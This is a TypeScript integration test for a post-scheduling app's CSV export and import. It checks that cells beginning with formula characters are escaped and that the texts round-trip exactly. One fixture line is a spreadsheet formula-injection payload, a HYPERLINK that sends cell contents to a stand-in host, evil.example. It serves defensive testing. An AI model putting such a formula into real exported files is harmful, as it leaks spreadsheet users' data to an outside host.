import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openConnectedApp, type ConnectedApp } from '../support/app.js';
import { startTestService, type TestService } from '../support/service.js';

/*
 * A post whose blocks start like spreadsheet formulas, sent through the composer's path to the real
 * local service, exported as CSV through the real export service and imported back through the real
 * import service: the file starts no cell with a formula character, and the texts come back exact.
 */

const BLOCKS = [
  '=HYPERLINK("https://evil.example/?d="&A1,"Click me")',
  '+1 555 0100 for orders',
  '-5% off today',
  '@SUM(1+9) at noon',
  "'=quoted by hand",
];

let svc: TestService;
let app: ConnectedApp;
let dir: string;
let saved = 0;

beforeAll(async () => {
  svc = await startTestService();
  dir = await mkdtemp(join(tmpdir(), 'postdeck-formula-'));
  app = await openConnectedApp(svc, {
    chooseSavePath: async ({ defaultName }) => join(dir, `${saved++}-${defaultName}`),
  });
}, 60_000);

afterAll(async () => {
  await app?.close();
  await svc?.close();
  if (dir) await rm(dir, { recursive: true, force: true });
});

describe('a CSV export of texts that look like formulas', () => {
  it('escapes every such cell, and imports back to the exact texts', async () => {
    const x = app.textAccounts.find((a) => a.platform === 'x');
    if (!x?.platform) throw new Error('the sandbox brand has no X account');
    const date = new Date(Date.now() + 30 * 86_400_000).toISOString();
    const draft = await app.ok('saveDraft', {
      brandId: svc.brandIds[0] ?? null,
      blocks: BLOCKS.map((content) => ({ content, media: [] })),
      targets: [
        { integrationId: x.id, platform: x.platform, settings: { __type: x.platform }, blocks: null },
      ],
      commentDelays: [],
      shortLink: false,
      date,
      replacesGroup: null,
    });
    await app.ok('sendDraft', { draftId: draft.id, type: 'schedule', date });
    await app.ok('syncNow');
    const { posts } = await app.ok('listPosts', {
      start: new Date(Date.parse(date) - 3_600_000).toISOString(),
      end: new Date(Date.parse(date) + 3_600_000).toISOString(),
    });
    const ids = posts.filter((p) => !p.localOnly).map((p) => p.id);
    expect(ids).toHaveLength(1);

    const { path } = await app.ok('exportPosts', { format: 'csv', scope: { kind: 'posts', postIds: ids } });
    const text = await readFile(path!, 'utf8');
    // As a spreadsheet program reads the file.
    const cells = Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data.flat();
    for (const cell of cells) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(cells).toContain(`'${BLOCKS[0]}`);

    const preview = await app.ok('previewImport', { file: await app.chosen(path!) });
    expect(preview.rows).toHaveLength(1);
    const row = preview.rows[0]!;
    expect(BLOCKS.map((_, i) => row.cells[i === 0 ? 'text' : `text_${i + 1}`])).toEqual(BLOCKS);
    // The same texts: the import knows the post is already there.
    expect(row.alreadyImported).toBe(true);
    expect(row.problems).toEqual([]);
  }, 60_000);
});
